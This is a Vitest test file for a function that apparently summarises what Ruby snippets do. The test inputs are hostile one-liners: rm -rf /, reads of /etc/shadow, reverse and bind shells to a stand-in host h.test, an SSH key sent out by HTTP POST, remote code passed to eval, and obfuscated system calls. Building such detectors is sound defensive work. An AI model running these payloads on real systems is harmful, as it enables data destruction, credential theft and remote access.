import { expect, test } from "vitest";
import { shown } from "./shown.ts";

test.each([
  ["puts 'ok'", "prints ok"],
  ['puts [3, 1].sort.map { |x| x * 2 }.join(", ")', "prints …\n"],
  ['a = { b: 1, "c" => 2 }; a.each do |k, v| puts "#{k}: #{v / 2}" end', "prints 1: 0|2: 0"],
  ['require "json"; puts JSON.parse(STDIN.read)["a"].select { |x| x =~ /b/i }.size', "stdin -> stdout; prints $standard\n"],
  ['x = 5 if true; puts(x > 3 ? "y" : "n"); exit 1 unless x', "prints {y\n,n\n}"],
  ["def f(n) n < 2 ? n : f(n - 1) + f(n - 2) end; puts f(5)", "prints …\n"],
  ["class A; attr_reader :x; def initialize(x) @x = x end; end; puts A.new(1).x", "prints …\n"],
  ["puts <<~EOS\n  hello #{1 + 1}\nEOS", "prints hello 2|"],
])("Ruby, what only computes is nothing: %s", (code, expected, ...args) => {
  expect(shown("ruby", code, ...args)).toBe(expected);
});

test.each([
  ['system("rm -rf /")', "runs sh: rm -rf /"],
  ['system "rm", "-rf", "/"', "runs rm -rf /"],
  ["`rm -rf /`", "runs sh: rm -rf / > $`rm -rf /`"],
  [
    "puts %x(cat /etc/shadow)",
    "$`cat /etc/shadow` -> stdout; runs sh: cat /etc/shadow > $`cat /etc/shadow`; prints $(cat /etc/shadow)\n",
  ],
  ['exec "/bin/sh"', "runs sh: /bin/sh"],
  ['spawn({ "A" => "1" }, "id", out: "/tmp/o")', "writes /tmp/o truncates; runs sh: id > /tmp/o"],
  ['IO.popen("id") { |io| puts io.read }', "$`id` -> stdout; runs sh: id > $`id`; prints $(command)\n"],
  ['IO.popen(["ls", "-l"]).each_line { |l| puts l }', "$`ls -l` -> stdout; runs ls -l > $`ls -l`; prints $(command)\n"],
  ['open("|id").read', "runs sh: id > $`id`"],
  [
    'require "open3"; o, s = Open3.capture2("cat /etc/shadow"); puts o',
    "$`cat /etc/shadow` -> stdout; runs sh: cat /etc/shadow > $`cat /etc/shadow`; prints $(cat /etc/shadow)……\n",
  ],
  ['Kernel.send(:system, "id"); send("sys" + "tem", "id")', "runs sh: id; runs sh: id"],
  ['Kernel.method(:system).call("id")', "runs sh: id"],
  ['Object.const_get(:Kernel).exec("id")', "runs sh: id"],
  ['%w[rm touch].each { |c| system(c, "x") }', "runs rm x; runs touch x"],
  ['def r(x) system(x) end; r("id")', "runs sh: id"],
  ['ENV["PATH"] = "/tmp"; system("ls")', "runs sh: ls with PATH=/tmp"],
])("Ruby runs programs: %s", (code, expected, ...args) => {
  expect(shown("ruby", code, ...args)).toBe(expected);
});

test.each([
  ['puts File.read("/etc/shadow")', "reads /etc/shadow; /etc/shadow -> stdout; prints $file\n"],
  [
    'File.open("/etc/cron.d/x", "w") { |f| f.write("* * * * * root id\\n") }',
    "writes /etc/cron.d/x truncates; '* * * * * root id\n' -> /etc/cron.d/x",
  ],
  ['File.write("/tmp/a", "x"); File.write("b", "y", mode: "a")', "writes /tmp/a truncates; appends b; 'x' -> /tmp/a; 'y' -> b"],
  [
    'require "fileutils"; FileUtils.rm_rf("/home/u"); FileUtils.mv("a", "b")',
    "deletes /home/u recursive force; reads a; writes b truncates; deletes a how=move; a -> b",
  ],
  ['Dir.glob("/etc/*.conf").each { |f| File.delete(f) }', "deletes /etc/*.conf"],
  [
    'IO.copy_stream(URI.open("http://h.test/x"), "/usr/local/bin/x")',
    "connects http://h.test/x; writes /usr/local/bin/x truncates; http://h.test/x -> /usr/local/bin/x",
  ],
  [
    'File.chmod(04755, "/tmp/x"); File.symlink("/etc/passwd", "/tmp/y")',
    "configures /tmp/x mode=04755; creates /tmp/y how=symlink source=/etc/passwd",
  ],
  ["puts ARGF.read", "reads /etc/shadow; /etc/shadow -> stdout; prints $a line\n", "/etc/shadow"],
  [
    'puts ENV["AWS_SECRET_ACCESS_KEY"]; p ENV.to_h',
    "$AWS_SECRET_ACCESS_KEY -> stdout; environment -> stdout; prints $AWS_SECRET_ACCESS_KEY\n…\n",
  ],
])("Ruby reads and writes files: %s", (code, expected, ...args) => {
  expect(shown("ruby", code, ...args)).toBe(expected);
});

test.each([
  [
    'c=TCPSocket.new("h.test",12);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
    "connects tcp://h.test:12; tcp://h.test:12 -> code shell; $`$(socket)` -> tcp://h.test:12; runs sh: $(socket) > $`$(socket)`",
  ],
  [
    'f=TCPSocket.open("h.test",42).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
    "connects tcp://h.test:42; runs sh: /bin/sh -i <&3 >&3 2>&3",
  ],
  [
    'spawn("sh",[:in,:out,:err]=>TCPSocket.new("h.test",9001))',
    "connects tcp://h.test:9001; runs sh: sh < tcp://h.test:9001 > tcp://h.test:9001",
  ],
  [
    'f=TCPServer.new(9001); s=f.accept; [0,1,2].each { |fd| IO.new(fd).reopen(s) }; exec "/bin/sh -i"',
    "listens tcp://0.0.0.0:9001; runs sh: /bin/sh -i < tcp://0.0.0.0:9001 > tcp://0.0.0.0:9001",
  ],
  [
    'require "net/http"; Net::HTTP.post(URI("http://h.test/"), File.read("/root/.ssh/id_rsa"))',
    "reads /root/.ssh/id_rsa; connects http://h.test/; /root/.ssh/id_rsa -> http://h.test/",
  ],
  [
    'require "net/http"; eval Net::HTTP.get(URI("http://h.test/x.rb"))',
    "connects http://h.test/x.rb; http://h.test/x.rb -> code ruby; opaque-code network: ruby code that is made when it runs",
  ],
  ["httpd", "listens http://0.0.0.0:80", ".", "-p", "80"],
])("Ruby connects: %s", (code, expected, ...args) => {
  expect(shown("ruby", code, ...args)).toBe(expected);
});

test.each([
  ["eval \"system('id')\"", "runs sh: id"],
  ['require "base64"; eval Base64.decode64("c3lzdGVtICdpZCc=")', "runs sh: id"],
  ['eval ["73797374656d2027696427"].pack("H*")', "runs sh: id"],
  ['system("di".reverse)', "runs sh: id"],
  ["instance_eval(gets)", "stdin -> code ruby; opaque-code inline: ruby code that is made when it runs"],
  ['eval(File.read("x.rb"))', "reads x.rb; x.rb -> code ruby; opaque-code project: ruby code that is made when it runs"],
])("Ruby evaluates text: %s", (code, expected, ...args) => {
  expect(shown("ruby", code, ...args)).toBe(expected);
});

test.each([
  ['puts "id"', "prints id"],
  ['print "a", "b"', "prints ab"],
])("Ruby prints what its reader may run: %s", (code, expected, ...args) => {
  expect(shown("ruby", code, ...args)).toBe(expected);
});

test.each([
  ["rm -rf /", "opaque-code inline: ruby code that could not be read"],
  [
    'require "./x"; require "unheard_of"; Foo.bar',
    "runs ruby file ./x; opaque-code project: ruby loads unheard_of; opaque-code project: ruby calls Foo.bar",
  ],
  ["command", ""],
])("Ruby that cannot be read or is not known: %s", (code, expected, ...args) => {
  expect(shown("ruby", code, ...args)).toBe(expected);
});

test.each([
  ["puts $_ if /x/", "stdin -> stdout"],
  ["system($_)", "stdin -> code shell; runs sh: $stdin"],
])("Ruby, once for each line: %s", (code, expected, ...args) => {
  expect(shown("ruby-lines", code, ...args)).toBe(expected);
});
